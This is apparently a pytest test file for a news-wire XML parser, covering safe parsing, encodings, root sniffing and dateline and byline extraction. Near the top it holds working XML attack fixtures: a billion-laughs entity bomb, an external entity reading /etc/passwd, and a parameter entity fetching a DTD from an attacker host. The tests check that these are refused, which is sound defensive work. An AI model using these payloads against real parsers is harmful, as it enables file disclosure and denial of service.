"""Safe XML parsing: attacks refused, broken XML reported with its position, encodings read."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta, timezone

import pytest

from schemas.article import Dateline
from streams.parse import ParseError
from streams.parse.errors import (
    MalformedXmlError,
    UndecodableWireError,
    XmlSecurityError,
)
from streams.parse.story import Moment
from streams.parse.xml.xmlsafe import (
    MAX_DEPTH,
    RootName,
    clean_byline,
    dateline_from_text,
    decode_xml,
    merge_dateline,
    paragraphs_of,
    parse_datetime,
    parse_xml,
    sniff_root,
    urgency_of,
)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<nitf><body><body.content><p>&lol9;</p></body.content></body></nitf>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<nitf><head><title>Leak</title></head>
<body><body.content><p>&secret;</p></body.content></body></nitf>
"""

EXTERNAL_PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [ <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote; ]>
<nitf><body><body.content><p>x</p></body.content></body></nitf>
"""


def test_billion_laughs_is_refused_as_an_entity_declaration() -> None:
    with pytest.raises(XmlSecurityError) as info:
        parse_xml(BILLION_LAUGHS, format_name="nitf")
    assert info.value.code == "W110"
    message = str(info.value)
    assert message.startswith("[W110] XML entity declarations are refused: ")
    assert "'lol'" in message
    assert "line 3" in message


def test_external_entity_is_refused_and_its_target_never_read() -> None:
    with pytest.raises(XmlSecurityError) as info:
        parse_xml(EXTERNAL_ENTITY, format_name="nitf")
    message = str(info.value)
    assert "XML entity declarations are refused" in message
    assert "'file:///etc/passwd'" in message
    assert "root:" not in message


def test_external_parameter_entity_is_refused_without_touching_the_network() -> None:
    with pytest.raises(XmlSecurityError, match=r"entity declarations are refused.*attacker"):
        parse_xml(EXTERNAL_PARAMETER_ENTITY, format_name="nitf")


def test_internal_dtd_declarations_are_refused() -> None:
    document = b'<!DOCTYPE nitf [ <!ATTLIST nitf version CDATA "3.6"> ]><nitf/>'
    with pytest.raises(XmlSecurityError, match=r"DTD declarations are refused.*ATTLIST nitf"):
        parse_xml(document, format_name="nitf")


def test_doctype_naming_an_external_dtd_is_accepted_and_not_fetched() -> None:
    document = b'<!DOCTYPE nitf SYSTEM "http://attacker.invalid/nitf.dtd"><nitf><head/></nitf>'
    assert parse_xml(document, format_name="nitf").root.tag == "nitf"


def test_nesting_beyond_the_limit_is_refused() -> None:
    deep = b"<a>" * (MAX_DEPTH + 1) + b"</a>" * (MAX_DEPTH + 1)
    with pytest.raises(XmlSecurityError, match=f"deeper than {MAX_DEPTH}"):
        parse_xml(deep, format_name="nitf")
    shallow = b"<a>" * MAX_DEPTH + b"</a>" * MAX_DEPTH
    assert parse_xml(shallow, format_name="nitf").root.tag == "a"


def test_truncated_xml_is_malformed_with_line_column_and_a_hint() -> None:
    truncated = b"<nitf>\n  <body>\n    <p>The wire stops here"
    with pytest.raises(MalformedXmlError) as info:
        parse_xml(truncated, format_name="nitf")
    assert info.value.code == "W111"
    message = str(info.value)
    assert "nitf wire is not well-formed XML" in message
    assert "line 3, column" in message
    assert "truncated" in message


def test_mismatched_tag_reports_where() -> None:
    with pytest.raises(MalformedXmlError, match=r"mismatched tag at line 2, column 9$"):
        parse_xml(b"<nitf>\n<body></head></nitf>", format_name="nitf")


def test_undeclared_html_entities_are_read_as_characters() -> None:
    with_doctype = b'<!DOCTYPE p SYSTEM "p.dtd"><p>a&nbsp;b&mdash;c</p>'
    without_doctype = b"<p>a&nbsp;b&mdash;c &amp; d&LT;</p>"
    assert parse_xml(with_doctype, format_name="t").root.text == "a\xa0b\u2014c"
    assert parse_xml(without_doctype, format_name="t").root.text == "a\xa0b\u2014c & d<"


def test_an_entity_nobody_knows_is_malformed() -> None:
    with pytest.raises(MalformedXmlError, match="undefined entity at line 1, column 8"):
        parse_xml(b"<p>one &notanentity; two</p>", format_name="t")


def test_declared_latin1_is_read_as_windows_1252() -> None:
    text, encoding = decode_xml(
        b'<?xml version="1.0" encoding="ISO-8859-1"?><p>\x93caf\xe9\x94</p>'
    )
    assert encoding == "cp1252"
    assert "\u201ccaf\xe9\u201d" in text


def test_declared_korean_encoding_is_used() -> None:
    data = '<?xml version="1.0" encoding="EUC-KR"?><p>서울</p>'.encode("euc-kr")
    document = parse_xml(data, format_name="t")
    assert document.root.text == "서울"
    assert document.encoding == "euc_kr"


def test_utf16_with_byte_order_mark_is_read() -> None:
    data = '<?xml version="1.0" encoding="UTF-16"?><p>Zürich</p>'.encode("utf-16")
    document = parse_xml(data, format_name="t")
    assert (document.root.text, document.encoding) == ("Zürich", "utf-16")


def test_undeclared_cp1252_bytes_are_recovered() -> None:
    document = parse_xml(b"<p>It\x92s here</p>", format_name="t")
    assert (document.root.text, document.encoding) == ("It\u2019s here", "cp1252")


@pytest.mark.parametrize("label", ["x-unknown-charset", "base64", "unicode_escape", "utf-7"])
def test_a_declared_encoding_that_is_no_character_set_is_refused(label: str) -> None:
    data = f'<?xml version="1.0" encoding="{label}"?><p>x</p>'.encode()
    with pytest.raises(UndecodableWireError, match=f"'{label}'"):
        parse_xml(data, format_name="t")


def test_bytes_invalid_in_the_declared_encoding_are_reported() -> None:
    data = b'<?xml version="1.0" encoding="EUC-KR"?><p>\xff\xff</p>'
    with pytest.raises(UndecodableWireError, match="declares encoding 'euc_kr'"):
        parse_xml(data, format_name="t")


def test_every_failure_is_a_parse_error() -> None:
    for data in (BILLION_LAUGHS, b"<a>", b"\x00\x01", b""):
        with pytest.raises(ParseError):
            parse_xml(data, format_name="t")


# ------------------------------------------------------------------------- sniffing


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (b"<nitf>", RootName(None, "nitf")),
        (
            b'\xef\xbb\xbf<?xml version="1.0"?>\n<!-- a > b -->\n<!DOCTYPE nitf SYSTEM "x.dtd">'
            b'\n<?pi data?><nitf version="3.6">',
            RootName(None, "nitf"),
        ),
        (
            b'<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x">',
            RootName("http://iptc.org/std/nar/2006-10-01/", "newsItem"),
        ),
        (
            b"<nar:newsMessage\n  xmlns:x='urn:other'\n  xmlns:nar='http://iptc.org/std/nar/2006-10-01/'>",
            RootName("http://iptc.org/std/nar/2006-10-01/", "newsMessage"),
        ),
        (b'<!DOCTYPE x [ <!ENTITY a "b"> ]><NewsML Version="1.2">', RootName(None, "NewsML")),
        (b"<!DOCTYPE html><html><body>", RootName(None, "html")),
        ('<?xml version="1.0"?><nitf>'.encode("utf-16"), RootName(None, "nitf")),
    ],
)
def test_sniff_root_reads_the_root_element(head: bytes, expected: RootName) -> None:
    assert sniff_root(head) == expected


@pytest.mark.parametrize(
    "head",
    [
        b'{"uri": "x", "headline": "<nitf>"}',
        b"Plain headline\n<nitf>",
        b"",
        b"<!-- open",
        b"< nitf>",
    ],
)
def test_sniff_root_gives_none_for_what_does_not_open_with_a_tag(head: bytes) -> None:
    assert sniff_root(head) is None


# --------------------------------------------------------------------------- values


def test_parse_datetime_reads_extended_and_basic_forms() -> None:
    minus5 = timezone(timedelta(hours=-5))
    assert parse_datetime("2018-10-21T16:25:32-05:00") == Moment(
        datetime(2018, 10, 21, 16, 25, 32, tzinfo=minus5).astimezone(UTC), "-05:00"
    )
    assert parse_datetime("20210516T080625Z") == Moment(
        datetime(2021, 5, 16, 8, 6, 25, tzinfo=UTC), "+00:00"
    )
    assert parse_datetime("20250304T083000+0900") == Moment(
        datetime(2025, 3, 3, 23, 30, tzinfo=UTC), "+09:00"
    )
    assert parse_datetime(" 2025-03-04T08:30:00.250Z ") == Moment(
        datetime(2025, 3, 4, 8, 30, 0, 250000, tzinfo=UTC), "+00:00"
    )
    assert parse_datetime("2025-03-04") == Moment(datetime(2025, 3, 4, tzinfo=UTC), None)


@pytest.mark.parametrize("text", [None, "", "yesterday", "2025-13-01T00:00:00Z", "99999999T999999"])
def test_parse_datetime_gives_none_for_what_it_cannot_read(text: str | None) -> None:
    assert parse_datetime(text) is None


def test_urgency_keeps_the_source_value_and_refuses_out_of_range() -> None:
    urgency = urgency_of(" 3 ")
    assert urgency is not None and (urgency.value, urgency.source_value) == (3, "3")
    assert urgency_of("0") is None
    assert urgency_of("10") is None
    assert urgency_of("high") is None


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("By Jane Doe", "Jane Doe"),
        ("  BY  JANE DOE, ", "JANE DOE"),
        ("Par Claire Martin", "Claire Martin"),
        ("Byron Lee", "Byron Lee"),
        ("By ", None),
        (None, None),
    ],
)
def test_clean_byline(raw: str | None, clean: str | None) -> None:
    assert clean_byline(raw) == clean


def test_dateline_from_text_splits_cities_date_and_agency() -> None:
    assert dateline_from_text("MOSCOW, Monday (Reuters)") == Dateline(
        cities=["MOSCOW"], date_text="Monday", agency="Reuters"
    )
    assert dateline_from_text(
        "Gaza City, Palestinian Territories, May 16, 2021 (AFP) -"
    ) == Dateline(cities=["Gaza City"], date_text="May 16, 2021", agency="AFP")
    assert dateline_from_text("ROUND ROCK, Texas") == Dateline(cities=["ROUND ROCK"])
    assert dateline_from_text("BEIJING/SEOUL") == Dateline(cities=["BEIJING", "SEOUL"])
    assert dateline_from_text("  ") is None


def test_merge_dateline_fills_what_the_metadata_lacks_from_the_body() -> None:
    metadata = Dateline(cities=["BUSAN"], date_text="March 4")
    body = Dateline(cities=["BUSAN"], date_text="Mar. 4", agency="Northwind")
    assert merge_dateline(metadata, body) == Dateline(
        cities=["BUSAN"], date_text="March 4", agency="Northwind"
    )
    assert merge_dateline(None, body) == body
    assert merge_dateline(metadata, None) == metadata


def test_paragraphs_of_reads_blocks_inline_markup_and_skips_media() -> None:
    root = parse_xml(
        b"""<body.content>lead text
          <p>One <em>two</em>\n   three</p>
          <block><p>Nested</p><p>blocks</p></block>
          <media><media-caption>Not story text</media-caption></media>
          <p>Line<br/>break</p><table><tr><td>a</td><td>b</td></tr></table>
          <p/>
        </body.content>""",
        format_name="t",
    ).root
    assert paragraphs_of(root) == [
        "lead text",
        "One two three",
        "Nested",
        "blocks",
        "Line",
        "break",
        "a b",
    ]


@pytest.mark.parametrize(
    ("text", "cities", "agency"),
    [
        ("(ANSA) - ROMA, 01 LUG -", ["ROMA"], "ANSA"),
        ("ANSA - ROMA, 01 LUG -", ["ROMA"], "ANSA"),
        ("London (dpa) - ", ["London"], "dpa"),
        ("2014-07-16 15:53:10 GMT+00:00", [], None),
    ],
)
def test_metadata_dateline_shapes(text: str, cities: list[str], agency: str | None) -> None:
    found = dateline_from_text(text)
    assert found is not None
    assert (found.cities, found.agency) == (cities, agency)
